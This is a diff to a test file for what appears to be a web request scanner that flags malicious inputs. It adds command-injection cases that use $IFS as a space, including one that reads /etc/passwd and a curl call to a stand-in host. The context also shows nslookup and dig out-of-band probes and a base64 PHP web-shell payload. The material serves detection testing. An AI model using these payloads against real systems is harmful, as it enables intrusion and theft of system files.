@@ -146,6 +146,9 @@ CASES = [
     ("query", "a|nslookup x7f3.collab.example", "shell_probe"),
     ("query", ";nslookup -type=txt x.oast.example", "shell_probe"),
     ("query", "|dig @8.8.8.8 x.oast.example", "shell_probe"),
+    # the field separator where a space would be
+    ("query", "a;${IFS}cat${IFS}/etc/passwd", "shell_ifs_spacing"),
+    ("query", "curl$IFS$9http://x.example/a", "shell_ifs_spacing"),
     ("query", "subprocess.Popen(['id'])", "python_command_call"),
     # PHP as base64 for an include; objects built by YAML or a pickle
     ("query", "data:text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", "php_code"),
@@ -265,6 +268,13 @@ def test_a_bad_paranoia_level_reads_as_the_default(sl, value):
 
 # ── scope: a signature means something in one place ───────────────────────
 
+def test_the_field_separator_as_a_space_blocks_in_a_value_not_in_a_pasted_script():
+    assert "shell_ifs_spacing" in names(scan_parts(headers={"User-Agent": "x;cat${IFS}/etc/passwd"}))
+    script = 'words="configure${IFS}build${IFS}test"'
+    result = scan_parts(body=f"snippet={quote(script)}".encode(), content_type="application/x-www-form-urlencoded")
+    assert "shell_ifs_spacing" not in names(result) and result.score < BLOCK
+
+
 def test_restricted_extensions_count_in_the_path_only():
     assert scan_parts(path="/backup/site.bak").score >= BLOCK
     assert scan_parts(query_string="q=notes.bak").score == 0
@@ -314,6 +324,7 @@ BENIGN = [
     "Every object has a __proto__ property", "d.__proto__ = b; // set the prototype",
     "The constructor property of Foo.prototype points back to Foo",
     "dog;dig hole", "use nslookup example.com to check", "a;nslookup",
+    'the $IFS variable', 'echo "$IFS" | od -c', 'x="${IFS}"',
 ]
 
 
